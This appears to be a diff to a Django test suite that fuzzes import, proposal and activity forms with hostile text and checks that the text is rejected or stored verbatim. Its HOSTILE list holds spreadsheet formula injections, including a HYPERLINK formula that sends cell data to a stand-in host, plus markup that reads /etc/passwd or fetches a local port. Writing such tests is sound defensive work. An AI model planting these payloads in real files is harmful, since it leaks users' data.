@@ -12,9 +12,11 @@ import re
 import time
 import tracemalloc
 import zipfile
+from datetime import timedelta
 
 import pytest
 from django.urls import reverse
+from django.utils import timezone
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
@@ -36,6 +38,9 @@ HOSTILE = [
     # formulas in a spreadsheet, markup and fetches in a PDF (issue 14)
     '=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
     '<img src="http://127.0.0.1:1/x.png"/>', "<img src='/etc/passwd'/>", "a<b", "<b>粗</b>", "R&D &amp;", "x\ud800y",
+    # markup and entities, spreadsheet formulas, bare controls, a lone surrogate, a number beyond 64 bits
+    "<img src=x>", "<b>", "&", "<", "=HYPERLINK(\"x\")", "+1", "-1", "@SUM(1)", "\t", "\r", "\ud800",
+    "99999999999999999999",
 ]
 hostile_text = st.one_of(
     st.sampled_from(HOSTILE),
@@ -63,7 +68,19 @@ def _csv(rows) -> bytes:
     writer = csv.writer(out)
     writer.writerow(HEADER)
     writer.writerows(rows)
-    return out.getvalue().encode("utf-8")
+    return out.getvalue().encode("utf-8", "surrogatepass")  # a lone surrogate: bytes that are not UTF-8
+
+
+def _as_received(text: str) -> str:
+    """What the server reads for ``text`` sent as UTF-8 (a lone surrogate's bytes become U+FFFD)."""
+    return text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
+
+
+def _form_body(data: dict) -> str:
+    """A urlencoded body as a browser would send it, lone surrogates included (the test client cannot)."""
+    from urllib.parse import quote_plus
+
+    return "&".join(f"{k}={quote_plus(str(v).encode('utf-8', 'surrogatepass'))}" for k, v in data.items())
 
 
 def _import(data: bytes, file_format: str, actor):
@@ -98,7 +115,7 @@ def test_import_of_hostile_cells_reports_rows_or_stores_them_verbatim(setup, nam
         assert report is None or all(str(e) for e in report.errors)
     else:
         saved = Member.objects.order_by("-pk").first()
-        assert saved.name == name.strip() and len(saved.name) <= 100  # stored as text, never interpreted
+        assert saved.name == _as_received(name).strip() and len(saved.name) <= 100  # stored verbatim
         Member.objects.filter(pk=saved.pk).delete()
 
 
@@ -165,19 +182,61 @@ def test_proposal_form_with_hostile_text_is_a_form_error_or_saved_verbatim(world
 
     client.force_login(world.member)
     before = Proposal.objects.count()
-    response = client.post(reverse("proposals:create"), {
+    response = client.post(reverse("proposals:create"), _form_body({
         "kind": "member", "title": title, "category": Proposal._meta.get_field("category").choices[0][0],
         "analysis": analysis, "suggestions": suggestions,
-    })
+    }), content_type="application/x-www-form-urlencoded")
     assert response.status_code in (200, 302, 400), response.status_code
     if response.status_code == 302:
         saved = Proposal.objects.order_by("-pk").first()
-        assert saved.title == title.strip()
+        assert saved.title == _as_received(title).strip()  # stored as text, never interpreted
         saved.delete()
     else:
         assert Proposal.objects.count() == before
         if response.status_code == 400:
             assert b"invalid-feedback" in response.content or b"alert" in response.content
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_every_hostile_string_in_a_proposal_is_a_form_error_or_saved_verbatim(world, client, text):
+    """Each hostile string for sure (the property test above samples them): in the title and the body."""
+    from proposals.models import Proposal
+
+    client.force_login(world.member)
+    response = client.post(reverse("proposals:create"), _form_body({
+        "kind": "member", "title": f"关于{text}的建议", "category": Proposal._meta.get_field("category").choices[0][0],
+        "analysis": text, "suggestions": f"建议{text}",
+    }), content_type="application/x-www-form-urlencoded")
+    assert response.status_code in (200, 302, 400), response.status_code
+    if response.status_code == 302:
+        saved = Proposal.objects.get()
+        assert saved.title == _as_received(f"关于{text}的建议") and saved.analysis == _as_received(text).strip()
+    else:
+        assert not Proposal.objects.exists()
+
+
+@SETTINGS
+@given(title=hostile_text, place=hostile_text, summary=hostile_text,
+       number=st.sampled_from(["99999999999999999999", "-1", "+1", "²", "1e400", "0x10", "", "<b>"]))
+def test_activity_form_with_hostile_text_and_numbers_is_a_form_error_or_saved_verbatim(world, client, title, place,
+                                                                                      summary, number):
+    from groups.models import Activity
+
+    client.force_login(world.convener)
+    before = Activity.objects.count()
+    starts = (timezone.localtime() + timedelta(days=3)).strftime("%Y-%m-%d %H:%M")
+    response = client.post(reverse("groups:activity_new", args=[world.group.pk]), _form_body({
+        "title": title, "kind": Activity.Kind.STUDY, "target": "", "contact_point": number, "six_item": "",
+        "plan_item": number, "starts_at": starts, "ends_at": "", "place": place, "summary": summary,
+        "suggestions": "", "version": number,
+    }), content_type="application/x-www-form-urlencoded")
+    assert response.status_code in (200, 302), response.status_code
+    if response.status_code == 302:
+        saved = Activity.objects.order_by("-pk").first()
+        assert (saved.title, saved.place) == (_as_received(title).strip(), _as_received(place).strip())
+        saved.delete()
+    else:
+        assert Activity.objects.count() == before
 
 
 # --- Evidence uploads with wrong headers ------------------------------------------------------------------------
